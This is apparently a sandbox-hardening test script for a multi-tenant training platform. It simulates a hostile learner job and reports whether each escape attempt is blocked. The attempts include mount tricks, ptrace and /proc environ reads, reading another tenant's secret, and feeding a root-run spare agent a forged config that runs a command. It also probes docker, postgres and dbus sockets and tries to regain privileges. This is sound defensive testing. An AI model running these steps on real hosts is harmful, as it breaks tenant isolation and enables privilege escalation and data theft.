"""A hostile learner: tries every way out of the sandbox it knows and prints one line per attempt,
`ESCAPE <attempt> blocked|ESCAPED <detail>`. Usage: python3 escape.py VICTIM_JOB_DIR [HOST_SOCKET...]
(HOST_SOCKET: Unix sockets the test listens on, on the host, outside the job's folders)

The mount tricks come first: on a sandbox that lets them through they uncover the machine's own
/proc and the platform's folders, which the reading attempts after them then find."""
import ctypes
import os
import socket
import subprocess
import sys

VICTIM = sys.argv[1]  # another tenant's job folder
# Host services a learner must not reach: the test's own listening sockets, and the usual ones of a
# machine (a database trusting local connections, a container runtime, the system bus).
HOST_SOCKETS = [*sys.argv[2:], "/run/postgresql/.s.PGSQL.5432", "/var/run/postgresql/.s.PGSQL.5432",
                "/run/mysqld/mysqld.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"]
OWN_JOB = os.path.dirname(os.environ["RESULT_DIR"])
STORAGE = os.path.dirname(os.path.dirname(OWN_JOB))
PLATFORM_DATA = os.path.dirname(STORAGE)  # the default layout: TRAINYARD_DATA_DIR/storage
HOST_FILE = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__import__("learner_agent").__file__))),
                         f"escaped-{os.environ.get('TRAINYARD_JOB_ID', 'x')}.txt")
libc = ctypes.CDLL(None, use_errno=True)


def report(name, escaped, detail=""):
    print(f"ESCAPE {name} {'ESCAPED' if escaped else 'blocked'} {detail}".rstrip(), flush=True)


def run(*argv):
    done = subprocess.run(argv, capture_output=True, text=True)
    return done.returncode, (done.stderr or done.stdout).strip().splitlines()[-1:] or [""]


def capabilities():
    status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
    effective = int(status["CapEff"].strip(), 16)
    report("capeff", effective != 0, f"CapEff={effective:x} uid={os.getuid()}")


def mount_attempts():
    code, said = run("mount", "-o", "remount,rw,bind", "/")
    report("remount_root_rw", code == 0, said[0])
    code, said = run("umount", "-l", "/tmp")
    report("umount_tmp", code == 0, said[0])
    target = os.path.join(os.environ["HOME"], "newproc")
    os.makedirs(target, exist_ok=True)
    code, said = run("mount", "-t", "proc", "proc", target)
    report("mount_proc", code == 0, said[0])
    # Uncover what the sandbox hides (the old escape): its /proc and every tmpfs over the platform.
    uncovered = [path for path in ("/proc", PLATFORM_DATA, STORAGE) if run("umount", "-l", path)[0] == 0]
    report("unhide_mounts", bool(uncovered), " ".join(uncovered))


def agent_pids():
    """Processes outside the sandbox we can see: the learner agents (python -m learner_agent run, or
    a spare agent that was handed a learner: python -m learner_agent spare)."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        if b"learner_agent" in argv and (b"run" in argv or b"spare" in argv):
            found.append(int(pid))
    return found


def ptrace_and_environ():
    agents = agent_pids()
    attached, memory, environ = [], [], []
    for pid in agents:
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            attached.append(pid)
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
        try:
            with open(f"/proc/{pid}/mem", "rb"):
                memory.append(pid)
        except OSError:
            pass
        try:
            if open(f"/proc/{pid}/environ", "rb").read():
                environ.append(pid)
        except OSError:
            pass
    report("ptrace_agent", bool(attached or memory),
           f"agents visible={agents} attached={attached} mem opened={memory}")
    host_init = open("/proc/1/cmdline", "rb").read().split(b"\0")[0].decode(errors="replace")
    try:
        init_env = open("/proc/1/environ", "rb").read()
    except OSError as e:
        init_env = b""
        host_init += f" ({e.strerror})"
    # pid 1 of our own namespace is bubblewrap; anything else is the machine's init.
    report("host_proc_environ", bool(environ) or ("bwrap" not in host_init and bool(init_env)),
           f"pid 1={host_init} agent environ read={environ}")


def platform_files():
    readable = []
    for top in (PLATFORM_DATA, VICTIM):
        for dirpath, dirnames, filenames in os.walk(top):
            if dirpath == OWN_JOB or dirpath.startswith(OWN_JOB + os.sep):
                dirnames[:] = []
                continue
            for name in filenames:
                path = os.path.join(dirpath, name)
                try:
                    with open(path, "rb") as f:
                        f.read(1)
                    readable.append(path)
                except OSError:
                    pass
    report("read_platform_files", bool(readable), " ".join(readable[:5]))
    try:
        with open(os.path.join(VICTIM, "results", "secret.txt")) as f:
            report("read_other_tenants_result", True, f.read().strip())
    except OSError as e:
        report("read_other_tenants_result", False, e.strerror)
    try:
        with open(HOST_FILE, "w") as f:
            f.write("escaped")
        report("write_host_file", True, HOST_FILE)
    except OSError as e:
        report("write_host_file", False, e.strerror)


def hand_a_spare_agent_a_config():
    """A spare agent (learner_agent.spare) runs whatever agent.json path its FIFO is given, as root:
    find one and give it a config of our own writing."""
    config = os.path.join(os.environ["RESULT_DIR"], "agent.json")
    with open(config, "w") as f:
        f.write('{"job_id": "escape", "command": "id > /tmp/escaped"}')
    written = []
    try:
        fifos = [os.path.join(PLATFORM_DATA, "spare-agents", name)
                 for name in os.listdir(os.path.join(PLATFORM_DATA, "spare-agents"))]
    except OSError as e:
        report("hand_spare_a_config", False, e.strerror)
        return
    for fifo in fifos:
        try:
            fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, config.encode() + b"\n")
            os.close(fd)
            written.append(fifo)
        except OSError:
            pass
    report("hand_spare_a_config", bool(written), f"fifos seen={len(fifos)} written={written}")


def raw_socket():
    opened = []
    for family, kind, proto in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
                                (socket.AF_PACKET, socket.SOCK_RAW, 0)):
        try:
            socket.socket(family, kind, proto).close()
            opened.append(str(family))
        except OSError:
            pass
    report("raw_socket", bool(opened), " ".join(opened))


def host_services():
    """connect() to Unix sockets on the host: a read-only view of a socket file does not stop it."""
    connected = []
    for path in HOST_SOCKETS:
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(2)
                s.connect(path)
                connected.append(path)
        except OSError:
            pass
    report("host_unix_sockets", bool(connected), " ".join(connected))
    listed = {}
    for folder in ("/run", "/var/run"):
        try:
            listed[folder] = sorted(os.listdir(folder))
        except OSError:
            pass
    report("run_visible", any(listed.values()), " ".join(f"{k}={v[:5]}" for k, v in listed.items()))


def job_cgroups():
    """The control groups of learners (named after their jobs) under /sys/fs/cgroup: every tenant's
    running job ids and their sizes, if the host's hierarchy shows through."""
    seen = set()
    for dirpath, dirnames, _ in os.walk("/sys/fs/cgroup"):
        if dirpath.count(os.sep) > 6:
            dirnames[:] = []
        seen.update(name for name in dirnames if name.startswith("training-"))
    report("cgroups_of_jobs", bool(seen), " ".join(sorted(seen)[:5]))


def regain_privileges():
    code, said = run("unshare", "-Ur", "sh", "-c", "grep CapEff /proc/self/status")
    report("nested_userns", code == 0, said[0])
    try:
        os.setuid(0)
        report("setuid_root", True)
    except OSError as e:
        report("setuid_root", False, e.strerror)


for attempt in (capabilities, mount_attempts, ptrace_and_environ, platform_files, hand_a_spare_agent_a_config,
                raw_socket, host_services, job_cgroups, regain_privileges):
    try:
        attempt()
    except Exception as e:  # an attempt that crashes is one that did not get through
        report(attempt.__name__, False, f"{type(e).__name__}: {e}")
print("ESCAPE done", flush=True)
